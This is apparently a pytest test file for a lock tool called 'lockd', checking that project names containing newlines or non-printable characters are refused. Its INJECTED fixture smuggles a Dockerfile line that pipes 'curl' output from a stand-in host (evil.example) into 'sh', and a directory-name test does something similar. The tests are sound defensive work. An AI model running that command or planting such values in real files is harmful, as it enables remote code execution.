"""One rule for project names, wherever a name enters: lockd.toml, pyproject.toml, a
directory's name, --project, a lockd.json or lockset document, the server.

The rule is the server's (1 to 200 printable characters): a project that
compiles can post, and no name spans lines in a table, a log or a Dockerfile.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from lockd.errors import ConfigError, FormatError
from lockd.lockfiles.manifest import read_manifest
from lockd.lockset import Lockset
from lockd.settings import parse_project_config
from tests.test_untrusted_locks import _lockset_doc, rewrite_manifest

INJECTED = 'app"\nRUN curl -s http://evil.example/x | sh\nLABEL z="'
NOT_NAMES = [INJECTED, "line\u2028separator", "tab\there", "", "x" * 201]


@pytest.mark.parametrize("name", NOT_NAMES)
def test_configuration_and_documents_refuse_what_the_server_refuses(name: str) -> None:
    with pytest.raises(ConfigError, match="printable characters"):
        parse_project_config({"project": name}, Path("lockd.toml"))
    with pytest.raises(FormatError, match="printable characters"):
        Lockset.from_dict(_lockset_doc(project=name))


def test_compile_refuses_a_name_that_spans_lines(lockd: Any, tmp_path: Path) -> None:
    (tmp_path / "requirements.in").write_text("filelock\n")
    (tmp_path / "lockd.toml").write_text(f"project = {json.dumps(INJECTED)}\n")
    run = lockd("compile", "--platform", "linux-x86_64", "--python", "3.11")
    assert run.returncode == 2, run.output
    assert "The project name in" in run.stderr and "lockd.toml" in run.stderr
    assert "1 to 200 printable characters" in run.stderr
    assert not any(line.startswith("RUN") for line in run.output.splitlines()), run.output
    assert "Traceback" not in run.output
    assert not (tmp_path / "locks").exists()


def test_a_directory_name_that_spans_lines_is_refused(lockd: Any, tmp_path: Path) -> None:
    project = tmp_path / "app\nRUN sh"
    project.mkdir()
    (project / "requirements.in").write_text("filelock\n")
    run = lockd("compile", "--platform", "linux-x86_64", "--python", "3.11", cwd=project)
    assert run.returncode == 2, run.output
    assert "the directory name of" in run.stderr
    assert "lockd.toml" in run.stderr and "--project" in run.stderr  # the two ways out


@pytest.mark.parametrize("command", [["history"], ["drift"], ["audit"], ["why", "numpy"]])
def test_project_flags_take_the_same_rule(lockd: Any, command: list[str]) -> None:
    run = lockd(*command, "--project", "a\nb")
    assert run.returncode == 2, run.output
    assert "The project name in --project" in run.stderr and "'a\\nb'" in run.stderr
    assert "Traceback" not in run.output


def test_a_lockd_json_naming_a_hostile_project_is_a_format_error(tmp_path: Path) -> None:
    (tmp_path / "locks").mkdir()
    rewrite_manifest(tmp_path, _lockset_doc(project=INJECTED))  # its hash matches
    with pytest.raises(FormatError, match="not a valid lockd manifest: The project name"):
        read_manifest(tmp_path / "locks" / "lockd.json")
